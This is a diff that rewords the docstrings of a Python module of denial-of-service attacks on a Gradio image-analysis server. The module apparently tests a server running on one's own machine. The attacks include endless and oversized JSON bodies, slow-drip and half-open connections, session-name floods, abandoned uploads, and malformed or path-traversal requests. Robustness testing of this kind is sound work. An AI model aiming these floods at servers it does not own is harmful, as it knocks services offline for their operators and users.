@@ -1,4 +1,4 @@
-"""The attacks, each for as long as its target says; all of them on a server of one's own, on this machine."""
+"""The attacks, each for as long as its target says; all of them on one's own server, on this machine."""
 
 import contextlib
 import socket
@@ -12,9 +12,9 @@ import httpx
 from .attack_media import base64_by_rest, photos_as_files, photos_past_the_queue, videos, webcam
 from .target import Target
 
-#: Addresses of Gradio's that take JSON.
+#: Gradio's addresses that take JSON.
 JSON_ADDRESSES: Final = ("component_server", "run/analyze_image", "cancel", "queue/join", "call/analyze_image")
-#: Bytes of a body without an end.
+#: Bytes sent for an endless body.
 ENDLESS: Final = 400_000_000
 
 
@@ -38,7 +38,7 @@ def endless_json(target: Target) -> None:
 
 
 def many_values(target: Target) -> None:
-    """A megabyte of JSON that becomes half a million objects."""
+    """A megabyte of JSON that parses into half a million objects."""
     body = b'{"data": [' + b"[]," * 380_000 + b"[]]}"
 
     def send(client: httpx.Client, number: int) -> httpx.Response:
@@ -49,7 +49,7 @@ def many_values(target: Target) -> None:
 
 
 def endless_field(target: Target) -> None:
-    """A form's text, in place of a file, without an end."""
+    """An endless text field in a form, instead of a file."""
     start = b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n'
 
     def send(client: httpx.Client, _: int) -> httpx.Response:
@@ -60,7 +60,7 @@ def endless_field(target: Target) -> None:
 
 
 def slow_bodies(target: Target) -> None:
-    """A byte now and then, on many connections, to every kind of address."""
+    """A byte now and then, over many connections, to every kind of address."""
     addresses = ("/api/v1/analyze", "/api/v1/video", "/gradio_api/upload", "/gradio_api/component_server")
     lines: list[socket.socket] = []
     number = 0
@@ -80,7 +80,7 @@ def slow_bodies(target: Target) -> None:
 
 
 def half_open(target: Target) -> None:
-    """Connections that say nothing, or not the whole of their headers."""
+    """Connections that send nothing, or incomplete headers."""
     lines: list[socket.socket] = []
     with contextlib.ExitStack() as opened:
         while target.goes_on:
@@ -96,7 +96,7 @@ def half_open(target: Target) -> None:
 
 
 def _drip(line: socket.socket, what: bytes, target: Target) -> bool:
-    """Whether the connection stands still."""
+    """Send a piece; returns whether the connection is still open."""
     try:
         line.setblocking(False)
         said = line.recv(100)
@@ -113,7 +113,7 @@ def _drip(line: socket.socket, what: bytes, target: Target) -> bool:
 
 
 def unread_answers(target: Target) -> None:
-    """The page is asked for again and again on one connection, and nothing is read."""
+    """Request the page repeatedly on one connection, and read nothing."""
     with contextlib.ExitStack() as opened:
         while target.goes_on:
             with contextlib.suppress(OSError):
@@ -125,7 +125,7 @@ def unread_answers(target: Target) -> None:
 
 
 def session_names(target: Target) -> None:
-    """A new name each time, by each door that takes one."""
+    """A new session name each time, through every route that takes one."""
     doors: list[Callable[[httpx.Client, str], httpx.Response]] = [
         lambda client, name: client.post("gradio_api/run/models", json={"data": [], "session_hash": name}),
         lambda client, name: client.post(
@@ -149,7 +149,7 @@ def session_names(target: Target) -> None:
 
 
 def broken_uploads(target: Target) -> None:
-    """Half of a file, and gone."""
+    """Send half of a file and disconnect."""
     head = (
         b"POST /gradio_api/upload HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=x\r\n"
         b'Content-Length: 90000000\r\n\r\n--x\r\nContent-Disposition: form-data; name="files"; filename="a.mp4"\r\n\r\n'
@@ -165,7 +165,7 @@ def broken_uploads(target: Target) -> None:
 
 
 def bad_requests(target: Target) -> None:
-    """Nonsense in place of HTTP, headers without an end, names that lead elsewhere, functions that there are not."""
+    """Nonsense instead of HTTP, endless headers, path traversal, functions that do not exist."""
     sent = [
         b"\x16\x03\x01\x02\0\x01" * 10,
         b"GET " + b"a" * 100_000,
